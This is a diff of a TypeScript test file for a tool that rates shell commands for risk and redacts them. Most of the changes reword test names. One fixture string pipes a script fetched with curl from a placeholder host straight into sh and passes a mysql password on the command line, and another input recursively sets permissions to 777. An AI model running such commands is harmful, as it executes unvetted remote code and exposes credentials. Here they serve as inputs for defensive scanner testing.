@@ -42,7 +42,7 @@ const raw = (command: string, at: number): RawCommand => ({
 });
 const LONG_TEXT = `curl -s https://x.example/i.sh | sh; mysql -phunter2 ${'a '.repeat(LONG)}`;
 
-test('a long command is rated in a thread as the actors rate it, and the order stays', async () => {
+test('a long command is rated in a thread like any other, and the order is kept', async () => {
   const texts = ['git status', LONG_TEXT, 'ls', 'chmod -R 777 .'];
   const { given, ports: threaded } = ports();
   const started = await rateAll(threaded, texts.map(raw), true);
@@ -57,18 +57,21 @@ test('a long command is rated in a thread as the actors rate it, and the order s
   expect(started[1]).toMatchObject({ tools: ['curl', 'sh', 'mysql'], risk: 'high', redacted: true });
 });
 
-test.each([true, false])('one that stopped its thread is stored as a mask, also with redact = %s', async (redact) => {
-  const [stored] = await rateAll(ports(() => Promise.resolve(null)).ports, [raw(LONG_TEXT, 1)], redact);
-  expect(stored).toMatchObject({
-    command: '‹redacted:not-analysed›',
-    redacted: true,
-    tools: [],
-    risk: 'moderate',
-    rules: ['evasion.unreadable'],
-  });
-});
+test.each([true, false])(
+  'a command that stopped its thread is stored fully masked, also with redact = %s',
+  async (redact) => {
+    const [stored] = await rateAll(ports(() => Promise.resolve(null)).ports, [raw(LONG_TEXT, 1)], redact);
+    expect(stored).toMatchObject({
+      command: '‹redacted:not-analysed›',
+      redacted: true,
+      tools: [],
+      risk: 'moderate',
+      rules: ['evasion.unreadable'],
+    });
+  },
+);
 
-test('many commands of some length are rated in parts, between which requests are answered', async () => {
+test('many long commands are rated in parts, and requests are answered in between', async () => {
   const texts = Array.from({ length: 20 }, () => `echo ${'x'.repeat(LONG - 10)}`);
   const { ports: threaded, given } = ports();
   let turns = 0;
